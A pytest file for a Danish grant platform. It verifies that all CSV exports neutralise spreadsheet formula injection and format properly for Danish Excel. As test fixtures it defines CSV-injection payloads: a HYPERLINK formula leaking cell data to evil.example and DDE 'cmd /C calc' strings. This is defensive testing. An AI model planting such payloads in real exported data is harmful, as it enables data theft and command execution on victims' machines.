"""Every CSV the platform hands out goes through ``core.csv_writer`` (issue 7, item 3 and the
Danish Excel item): no cell becomes a spreadsheet formula, in any export, whoever typed the
text; the default opens well in Danish Excel (``;``, a BOM, decimal commas, statuses in the
reader's language, people's names, CVR numbers); ``?dialect=machine`` is the form for programs."""
from __future__ import annotations

import ast
import contextlib
import csv
import datetime
import io
import re
import uuid
from decimal import Decimal

import httpx
import pytest

from core import csv_writer, db, exports, i18n
from core.demo import DEMO_PASSWORD
from core.models.audit import record_event
from core.rules import applications as application_rules, calls as call_rules, money
from core.settings import ROOT
from tests.core.rules.conftest import COPENHAGEN_TYPE, TEST_MUNICIPALITY, Builder, random_valid_cvr, unique
from tests.core.rules.money.test_payments import PASSWORD, account

CSRF_FIELD = re.compile(r'name="csrf_token" value="([^"]+)"')
NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik her")'
NOTE = "-2+3+cmd|' /C calc'!A0"
PURPOSE = "@SUM(1+1)*cmd|' /C calc'!A0"
REFERENCE = "+1+1"
REASON = "=1+1 (the reason, as typed)"
ACTOR = "\t=cmd|' /C calc'!A0"
HOSTILE = (NAME, PURPOSE, REFERENCE, REASON, ACTOR)  # the payment's NOTE is not exported
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def client_for(live_server, email: str, password: str) -> httpx.Client:
    n = uuid.uuid4().int
    client = httpx.Client(base_url=live_server, timeout=30, follow_redirects=False,
                          headers={"X-Forwarded-For": f"10.{n % 250 + 1}.{(n >> 8) % 250 + 1}.{n % 7 + 1}"})
    page = client.get("/login")
    response = client.post("/login", data={"email": email, "password": password,
                                           "csrf_token": CSRF_FIELD.search(page.text).group(1)})
    assert response.status_code == 303, response.text
    return client


def read(response: httpx.Response, delimiter: str = ";") -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # the BOM: Excel reads æ, ø and å
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.fixture(scope="module")
def hostile(platform, app):
    """Rows in a test municipality whose text fields all start like formulas: an organisation's
    name, a fee's note, a grant's purpose, a payment's reference, a decision's reason, an actor."""
    with db.connection():
        build = Builder(platform)
        admin = account(platform)  # the municipality's administrator: approves, pays, decides, exports
        consultant = account(platform, "consultant")
        programme = build.programme(COPENHAGEN_TYPE, start=datetime.date(2020, 1, 1), end=None,
                                    budgets={2024: 5_000_000})
        organisation = build.member(programme, name=NAME, cvr=random_valid_cvr(), email="club@example.org",
                                    description="We play football")
        grant = money.record_grant(platform, programme_id=programme.id, organisation_id=organisation.id, year=2024,
                                   amount_ore=150_000_00, actor="test", purpose=PURPOSE)
        payment = money.request_payment(actor=consultant, kind="grant_instalment", amount_ore=12_345_67,
                                        idempotency_key=uuid.uuid4().hex, grant_id=grant.id, note=NOTE)
        money.approve_payment(actor=admin, payment_id=payment.id)
        money.mark_paid(actor=admin, payment_id=payment.id, paid_on=datetime.date(2024, 3, 1), reference=REFERENCE)
        today = datetime.date.today()
        call = call_rules.create_call(platform, programme=programme, actor="test", data={
            "title": unique("Runde"), "opens_on": today - datetime.timedelta(days=1),
            "closes_on": today + datetime.timedelta(days=10)})
        application = application_rules.start_application(platform, call=call, organisation=organisation,
                                                          actor="test", today=call.opens_on)
        application_rules.save_answers(platform, application, {
            "contact_email": "a@b.example", "criterion:min_members_under_25": "150",
            "criterion:vulnerable_urban_areas": "yes", "criterion:experience": "3"}, actor="test")
        application_rules.submit(platform, application, actor="test")
        application_rules.decide(platform, application, decision="accept", reason=REASON, actor=admin.label,
                                 account=admin.account, start_date=datetime.date(2024, 1, 1), notify=False)
        record_event(ACTOR, f"test.hostile.{uuid.uuid4().hex[:8]}", "organisation", str(organisation.id),
                     scope=f"municipality:{build.municipality.id}")
    return {"admin": admin, "consultant": consultant, "programme": programme, "organisation": organisation,
            "payment": payment}


def danish(msgid: str) -> str:
    with i18n.locale_context("da"):
        return i18n.gettext(msgid)


def export_paths(client: httpx.Client) -> list[str]:
    """Every CSV export the page of exports offers (so a dataset added later is covered too)."""
    index = client.get("/exports")
    assert index.status_code == 200
    return sorted(set(re.findall(r'href="(/exports/[a-z_]+\.csv)"', index.text)))


def test_no_cell_of_any_csv_export_can_become_a_formula(live_server, hostile):
    admin = hostile["admin"]
    with contextlib.closing(client_for(live_server, admin.account.email, PASSWORD)) as client:
        paths = export_paths(client)
        filled = {"/exports/payments.csv", "/exports/commitments.csv", "/exports/applications.csv",
                  "/exports/agreements.csv", "/admin/audit.csv"}
        assert filled - {"/admin/audit.csv"} <= set(paths)
        found: set[str] = set()
        for path in [*paths, "/admin/audit.csv"]:
            for dialect in ("excel", "machine"):
                rows = read(client.get(path, params={"dialect": dialect}), ";" if dialect == "excel" else ",")
                # a plugin's dataset may have no rows in this fresh municipality: its header, at least
                assert len(rows) > (1 if path in filled else 0), path
                for row in rows:
                    for cell in row:
                        assert not cell.startswith(FORMULA_START), (path, dialect, cell)
                        found.update(text for text in HOSTILE if cell == "'" + text)
        # each hostile text reached an export, as text behind an apostrophe
        assert found == set(HOSTILE), set(HOSTILE) - found


def test_the_one_writer_neutralises_formulas_and_leaves_numbers_alone():
    assert csv_writer.neutralise("=1+1") == "'=1+1"
    assert csv_writer.neutralise("  @SUM(A1)") == "'  @SUM(A1)"
    assert csv_writer.neutralise("\r=1") == "'\r=1"
    assert csv_writer.neutralise("Roskilde Basketball Club") == "Roskilde Basketball Club"
    cells = csv_writer.EXCEL
    assert cells.cell(Decimal("-12.50")) == "-12,50"  # a number the platform wrote is not text
    assert cells.cell(-3) == "-3"
    assert cells.cell("-3") == "'-3"  # text that looks like one is
    assert csv_writer.MACHINE.cell(Decimal("1234.50")) == "1234.50"
    assert csv_writer.MACHINE.cell(datetime.datetime(2026, 12, 1, 10, 30, tzinfo=datetime.timezone.utc)) \
        == "2026-12-01T10:30:00Z"
    assert cells.cell(datetime.datetime(2026, 12, 1, 10, 30, 5, 123)) == "2026-12-01 11:30:05"  # Danish time
    assert cells.cell(datetime.datetime(2026, 7, 1, 10, 30, tzinfo=datetime.timezone.utc)) == "2026-07-01 12:30:00"


def test_no_other_module_writes_csv():
    """The one writer is the only place that imports ``csv``: an export written elsewhere would
    skip the formula guard (core and plugins alike)."""
    writers = []
    for folder in ("core", "plugins"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = ([alias.name for alias in node.names] if isinstance(node, ast.Import)
                         else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
                if any(name == "csv" or name.startswith("csv.") for name in names):
                    writers.append(str(path.relative_to(ROOT)))
    assert writers == ["core/csv_writer.py"]


def test_the_default_csv_opens_in_danish_excel(live_server):
    with contextlib.closing(client_for(live_server, "kbh-admin@partnerskab.test", DEMO_PASSWORD)) as client:
        rows = read(client.get("/exports/payments.csv"))
        header, data = rows[0], rows[1:]
        assert header[:4] == ["Betaling", "Partnerskab", "Organisation", "CVR"] and len(header) == 14
        assert {row[7] for row in data} >= {"Afventer godkendelse", "Godkendt", "Udbetalt"}
        paid = [row for row in data if row[7] == "Udbetalt"]
        assert paid and all(re.fullmatch(r"\d+,\d{2}", row[6]) for row in paid)  # kroner with a decimal comma
        assert not any(cell.startswith("account:") for row in data for cell in row)
        assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", row[9]) for row in data)

        client.cookies.set("lang", "en")
        english = read(client.get("/exports/payments.csv"))
        assert english[0][:2] == ["Payment", "Programme"]
        assert {row[7] for row in english[1:]} >= {"Waiting for approval", "Approved", "Paid"}

        machine = read(client.get("/exports/payments.csv", params={"dialect": "machine"}), ",")
        assert {row[7] for row in machine[1:]} >= {"created", "approved", "paid"}
        assert all(re.fullmatch(r"\d+\.\d{2}", row[6]) for row in machine[1:] if row[7] == "paid")
        assert client.get("/exports/payments.csv", params={"dialect": "lotus"}).status_code == 400


def test_applications_name_the_decider_and_commitments_say_their_kind(live_server, hostile):
    admin = hostile["admin"]
    with contextlib.closing(client_for(live_server, admin.account.email, PASSWORD)) as client:
        applications = read(client.get("/exports/applications.csv"))
        ours = [row for row in applications[1:] if row[3] == "'" + NAME]
        assert len(ours) == 1
        assert ours[0][4] == hostile["organisation"].cvr
        assert ours[0][5] == danish("Accepted") != "Accepted"  # a word in the reader's language, not the code
        assert ours[0][8] == admin.account.name  # the decider's name, not account:<id>:<email>
        commitments = read(client.get("/exports/commitments.csv"))
        assert any(row[0] == danish("Grant") and row[3] == "'" + NAME and row[7] == "150000,00"
                   for row in commitments[1:])
        payments = read(client.get("/exports/payments.csv"))
        row = next(row for row in payments[1:] if row[0] == str(hostile["payment"].id))
        assert row[3] == hostile["organisation"].cvr  # the CVR number, as its eight digits
        assert row[6] == "12345,67" and row[8] == hostile["consultant"].account.name
        assert row[10] == admin.account.name and row[13] == "'" + REFERENCE


def test_the_command_line_writes_through_the_same_writer(settings, app, tmp_path):
    import os
    import subprocess
    import sys
    from core.settings import DEFAULT_CONFIG
    env = {key: value for key, value in os.environ.items()
           if not key.startswith("PARTNERSKAB_") and key not in {"DATABASE_URL", "SECRET_KEY", "PORT"}}
    env.update(PARTNERSKAB_CONFIG=str(DEFAULT_CONFIG), DATABASE_URL=settings.database_url,
               PARTNERSKAB_INSTANCE_DIR=str(tmp_path / "instance"))
    for dialect, delimiter, paid in (("excel", ";", "Udbetalt"), ("machine", ",", "paid")):
        result = subprocess.run([sys.executable, "-m", "core.cli", "export", "payments", "--dialect", dialect],
                                cwd=ROOT, env=env, capture_output=True, timeout=120)
        assert result.returncode == 0, result.stderr
        rows = list(csv.reader(io.StringIO(result.stdout.decode("utf-8-sig")), delimiter=delimiter))
        assert len(rows[0]) == 14 and paid in {row[7] for row in rows[1:]}


def test_exports_module_streams_through_the_writer():
    chunks = list(exports.csv_stream(["a", "b"], [[["=x", Decimal("1.50")]]]))
    assert b"".join(chunks).decode("utf-8-sig") == "a;b\r\n'=x;1,50\r\n"
